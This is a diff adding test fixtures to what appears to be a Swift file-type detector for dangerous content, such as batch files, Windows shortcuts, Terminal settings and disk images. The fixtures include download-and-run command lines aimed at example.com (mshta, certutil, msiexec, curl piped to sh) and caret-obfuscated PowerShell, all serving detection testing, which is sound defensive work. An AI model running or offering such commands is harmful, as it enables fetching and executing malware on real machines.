@@ -116,6 +116,54 @@ extension BannedSamples {
         ("batch file with a tab", text("@echo\toff\r\nstart x\r\n")),
         ("batch file with a blank before", text("@ echo off\r\nstart x\r\n")),
         ("batch file with other signs", text("@(=@ECHO,;off\r\nstart x\r\n")),
+        ("batch file that echoes", text("echo off\r\nrem\r\n")),
+        ("batch file that clears", text(":: x\r\ntitle Setup\r\n:start\r\ncls & color 0a\r\n")),
+        ("batch file with variables of its own", text("@SetLocal EnableDelayedExpansion\r\n")),
+        ("batch file behind a long comment", text(String(repeating: "rem x\r\n", count: 60) + "@echo off>nul\r\n")),
+        ("command with carets", text("p^ow^ers\"\"h^ell^.exe -n^op x\r\n")),
+        ("command over two lines", text("power^\r\nshell /w hidden\r\n")),
+        ("shell without a blank", text("C:\\Windows\\System32\\cmd.exe/c start x\r\n")),
+        ("shell with switches", text("cmd /q /c x\r\n")),
+        ("HTML application fetched", text("\"mshta.exe\" http://example.com/x\r\n")),
+        ("certutil.exe", text("certutil.exe -f -split -urlcache http://example.com/x\r\n")),
+        ("installer fetched", text("msiexec /q /i http://example.com/x.msi\r\n")),
+        ("start in the background", text("x & start /b y\r\n")),
+        ("start elsewhere", text("start \\\\example.com\\x\\y.exe\r\n")),
+        ("fetched and started", text("curl -o x.exe http://example.com/x&&start x.exe\r\n")),
+        ("Windows PowerShell", text("powershell -nop -c x\r\n")),
+        ("Explorer command of the taskbar", text("[Shell]\r\ncommand = 2\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n")),
+        ("Explorer command with blanks", text("[shell]\r\n iconfile \t= \\\\example.com\\x.ico\r\n")),
+        ("desktop entry with its program", text("#!/usr/bin/env xdg-open\n[Desktop Entry]\nExec=true\n")),
+        (
+            "ClickOnce shortcut",
+            wide(
+                "http://example.com/x.application#x.application, Culture=neutral, PublicKeyToken=0123456789abcdef,"
+                    + " processorArchitecture=msil")
+        ),
+        ("settings of Terminal", text(plist + "<dict><key>CommandString</key><string>id</string></dict></plist>\n")),
+        (
+            "settings of Terminal with a picture",
+            text(
+                plist + "<dict><key>BackgroundColor</key><data>" + String(repeating: "QUFB", count: 2000)
+                    + "</data><key>CommandString</key><string>id</string></dict></plist>\n")
+        ),
+        (
+            "configuration profile",
+            text(
+                plist + "<dict><key>PayloadContent</key><array/><key>PayloadType</key><string>Configuration</string>"
+                    + "</dict></plist>\n")
+        ),
+        ("binary settings of Terminal", padded(text("bplist00") + [0xD1, 1, 2] + text("]CommandStringRid"), 64)),
+        (
+            "binary shortcut of macOS",
+            padded(text("bplist00") + [0xD1, 1, 2] + text("SURL_\u{10}\u{13}http://example.com/"), 64)
+        ),
+        (
+            "definition of commands",
+            text("<?xml version=\"1.0\"?>\n<PowerShellMetadata xmlns=\"x\"><Class/></PowerShellMetadata>\n")
+        ),
+        ("Outlook profile with blanks", text("[Service List]\r\nX=x\r\n[General]\r\nprofilename = x\r\n")),
+        ("task of another Windows", marked(task, 0, [0x05, 0x06])),
         ("Explorer command further down", text("[x]\r\ny=1\r\n [shell]\r\nIconFile=\\\\example.com\\x.ico\r\n")),
         ("Remote Desktop file", text("screen mode id:i:2\r\nfull address:s:example.com\r\n")),
         (
@@ -155,6 +203,8 @@ extension BannedSamples {
         ("SYLK", text("ID;PWXL;N;E\r\nC;X1;Y1;K0\r\nE\r\n")),
         ("Access database", padded([0, 1, 0, 0] + text("Standard ACE DB"), 512)),
     ]
+
+    private static let plist = "<?xml version=\"1.0\"?>\n<plist version=\"1.0\">\n"
 
     /// A task for `a` (MS-TSCH section 2.4).
     private static let task: [UInt8] = {
@@ -206,6 +256,7 @@ extension BannedSamples {
         ("HFS Plus file system", marked(4096, 1024, [0x48, 0x2B, 0, 4])),
         ("APFS file system", marked(4096, 32, text("NXSB"))),
         ("XFS file system", padded(text("XFSB") + [0, 0, 0x10, 0], 4096)),
+        ("Apple partition map", marked(8192, 512, text("PM") + [0, 0, 0, 0, 0, 2, 0, 0, 0, 1, 0, 0, 0, 0x3F])),
         ("Btrfs file system", marked(70_000, 65_600, text("_BHRfS_M"))),
     ]
 
@@ -236,6 +287,16 @@ extension BannedSamples {
         ),
         ("data.bin", padded([0xCB, 0x0D, 0x0D, 0x00], 32)), ("song.mp3", padded(text("ID3\u{3}"), 64)),
         ("data.zip", Archives.zip("letter.txt", text("hello"))), ("dex.txt", text("dexterity is a skill\r\n")),
+        ("mac.txt", text("Press Cmd/C to copy, Cmd/Ctrl + V to paste, cmd / k for links. Title pages follow.\r\n")),
+        ("title.txt", text("Title page\r\nColor theory\r\n:-)\r\nThe stage is clear; echo off the walls.\r\n")),
+        ("clear.txt", text("Remember\r\ncls\r\n")), ("official.txt", text("@echo official\r\n")),
+        ("shell.md", text("curl http://example.com/x | sh\nRestart /b when started. PowerShell - a guide.\n")),
+        ("bash.ini", text("[Shell]\r\nCommand=/bin/bash\r\nArguments=-l\r\n")),
+        ("info.plist", text(plist + "<dict><key>CommandLine</key><string>id</string></dict></plist>\n")),
+        ("data.plist", padded(text("bplist00") + [0xD1, 1, 2] + text("TName"), 64)),
+        ("reference.txt", text("see http://example.com/x.application#top for the culture of it\r\n")),
+        ("pm.bin", marked(8192, 512, text("PM"))),
+        ("install.txt", text("cat > x.desktop <<EOF\n[Desktop Entry]\nExec=true\nEOF\n")),
         ("echo.txt", text("the echo off the wall\r\n@echo on\r\n")), ("rem.txt", text("REM sleep is a phase\r\n")),
         ("echoes.txt", text("@echo on\r\n@echooff\r\n")), ("remark.txt", text("Remember: we meet at nine.\r\n")),
         ("version.ini", text("[x]\r\ny=1\r\n[Version]\r\nSignature=Jane Doe, $CHICAGO\r\n")),
